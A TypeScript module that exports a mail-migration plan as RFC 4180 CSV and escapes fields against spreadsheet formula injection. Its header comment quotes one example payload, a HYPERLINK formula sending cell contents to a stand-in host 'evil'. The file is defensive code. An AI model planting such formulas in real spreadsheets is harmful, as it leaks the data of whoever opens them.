/**
 * The plan (or a run's report) as CSV, one row per message, for spreadsheets and scripts: RFC 4180 (header row,
 * CRLF line ends, fields with a comma, quote, CR or LF quoted, quotes doubled).
 *
 * Formula injection: Excel, LibreOffice and Google Sheets run a cell that starts with =, +, -
 * or @ as a formula, and subjects, senders and even UIDLs are written by strangers (a subject
 * `=HYPERLINK("http://evil/?"&A1,"click")` leaks the sheet). Such text fields get a leading
 * apostrophe, which spreadsheets hide and treat as "this is text"; so do fields starting with
 * TAB or CR, which some spreadsheets strip before looking for the formula sign. Numeric columns
 * (n, size) are ours and left alone. A script that needs the exact strings reads `--format json`.
 *
 * Text is not passed through printable(): a CSV is data, and quoting already keeps a CR or LF
 * inside its field.
 */

import type { PlanMessage, PlanReport } from './plan-types.js';

export const CSV_COLUMNS = [
  'n',
  'uidl',
  'size',
  'status',
  'folder',
  'folder_rule',
  'flags',
  'seen_source',
  'internal_date',
  'date_source',
  'subject',
  'from',
  'message_id',
  'reason',
  'server_response',
] as const;

/** Messages in POP3 order, whatever order the planner collected them in. */
export function renderPlanCsv(report: PlanReport): string {
  const rows = [...report.messages].sort((a, b) => a.n - b.n).map(csvRow);
  return [CSV_COLUMNS.join(','), ...rows].map((r) => `${r}\r\n`).join('');
}

function csvRow(m: PlanMessage): string {
  return [
    String(m.n),
    textField(m.uidl),
    String(m.size),
    textField(m.status),
    textField(m.folder),
    textField(m.folderRule),
    textField(m.flags.join(' ')),
    textField(m.seenSource),
    textField(m.internalDate),
    textField(m.dateSource),
    textField(m.subject),
    textField(m.from),
    textField(m.messageId),
    textField(m.reason),
    textField(m.serverResponse ?? null),
  ].join(',');
}

/** null is an empty field: CSV has no null, and "null" would be a real subject. */
export function textField(value: string | null): string {
  if (value === null) return '';
  return quote(/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
}

export function quote(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}
